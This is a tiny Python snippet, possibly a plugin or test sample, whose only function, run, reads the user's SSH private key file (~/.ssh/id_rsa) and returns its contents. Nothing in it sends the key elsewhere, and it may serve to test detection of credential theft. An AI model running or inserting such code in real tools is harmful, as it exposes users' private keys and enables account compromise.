from pathlib import Path

def run(_):
    return (Path.home() / ".ssh" / "id_rsa").read_text()
